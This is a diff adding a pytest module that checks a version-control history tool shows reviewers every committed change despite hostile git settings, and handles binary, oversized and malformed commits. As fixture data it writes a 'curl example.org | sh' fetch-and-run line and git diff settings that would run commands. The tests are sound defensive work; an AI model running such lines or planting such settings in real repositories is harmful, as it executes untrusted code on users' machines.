@@ -1,0 +1,113 @@
+"""What somebody who reviews commits is shown of them, whatever the commits and the settings say."""
+
+from __future__ import annotations
+
+import pytest
+
+from specify_cli.vcs import history
+from specify_cli.vcs.objects import tree_changes
+from tests.unit.vcs.conftest import Project
+
+
+def shown(project: Project, base: str) -> history.Difference:
+    return history.difference(project.repo.git, base, project.git("rev-parse", "HEAD"))
+
+
+def start(project: Project) -> str:
+    return project.git("rev-parse", "HEAD")
+
+
+SETTINGS = {
+    "core.bigFileThreshold": "1",
+    "diff.ignoreSubmodules": "all",
+    "diff.evil.textconv": "touch ran; cat",
+    "diff.evil.command": "touch ran",
+    "diff.evil.binary": "true",
+    "diff.external": "touch ran",
+    "diff.noprefix": "true",
+    "color.diff": "always",
+    "color.ui": "always",
+}
+
+
+@pytest.mark.parametrize("attributes", ["* -diff", "* binary", "* diff=evil", ""])
+def test_no_setting_and_no_attribute_hides_a_change(project: Project, attributes: str) -> None:
+    base = start(project)
+    for setting, value in SETTINGS.items():
+        project.git("config", setting, value)
+    (project.root / ".git/info").mkdir(exist_ok=True)
+    (project.root / ".git/info/attributes").write_text(attributes + "\n")
+    project.write(".gitattributes", attributes + "\n")
+    project.write("evil.sh", "curl example.org | sh\n")
+    project.git("add", "-A")
+    project.git("commit", "-q", "-m", "work")
+    text = shown(project, base).text
+    assert "\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl example.org | sh\n" in text
+    assert not (project.root / "ran").exists()
+
+
+def test_a_repository_inside_is_a_change_whatever_gitmodules_says(project: Project) -> None:
+    project.write(".gitmodules", '[submodule "x"]\n\tpath = inner\n\turl = ./x\n\tignore = all\n')
+    project.git("add", "-A")
+    project.git("commit", "-q", "-m", "before")
+    base = start(project)
+    project.git("update-index", "--add", "--cacheinfo", f"160000,{base},inner")
+    project.git("commit", "-q", "-m", "work")
+    head = project.git("rev-parse", "HEAD")
+    assert list(tree_changes(project.repo.git, base, head)) == ["inner"]
+    assert f"+Subproject commit {base}" in shown(project, base).text
+
+
+def test_a_binary_file_is_named_and_takes_no_room(project: Project) -> None:
+    base = start(project)
+    (project.root / "a.bin").write_bytes(b"\0\x1b\n" * (2 * history.MOST_DIFF))
+    project.write("b.txt", "text\n")
+    project.git("add", "-A")
+    project.git("commit", "-q", "-m", "work")
+    found = shown(project, base)
+    assert "diff --git a/a.bin b/a.bin\nnew file mode 100644\n" in found.text
+    assert "Binary files /dev/null and b/a.bin differ\n" in found.text
+    assert "+text" in found.text
+    assert not found.is_cut
+
+
+def test_a_long_difference_is_cut(project: Project) -> None:
+    base = start(project)
+    project.write("a.txt", "long\n" * history.MOST_DIFF)
+    project.git("add", "-A")
+    project.git("commit", "-q", "-m", "work")
+    found = shown(project, base)
+    assert found.is_cut
+    assert len(found.text) == history.MOST_DIFF
+
+
+def test_git_is_stopped_once_it_has_printed_enough(
+    project: Project, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(history, "MOST_READ", 100_000)
+    base = start(project)
+    project.write("a.txt", "long\n" * 1_000_000)
+    project.git("add", "-A")
+    project.git("commit", "-q", "-m", "work")
+    found = shown(project, base)
+    assert found.is_cut
+    assert len(found.text) < 2 * history.MOST_READ
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        "",
+        "author  <> 0 +0000\ncommitter  <> 0 +0000\n",
+        "author A <a@b> -1 +9999\ncommitter A <a@b> 99999999999999999999 +0000\n",
+        "author A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\nencoding UTF-16\n",
+        "author +AAA- <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\nencoding UTF-7\n",
+    ],
+)
+def test_a_commit_of_any_form_is_one_line(project: Project, head: str) -> None:
+    text = f"tree {project.git('rev-parse', 'HEAD^{tree}')}\n{head}\nsub+AAA-ject\n"
+    project.write("commit", text)
+    words = ("hash-object", "-t", "commit", "-w", "--literally", "--path=commit", "commit")
+    commit = project.git(*words)
+    found = history.summaries(project.repo.git, [commit, start(project)])
+    assert [it.commit for it in found] == [commit, start(project)]
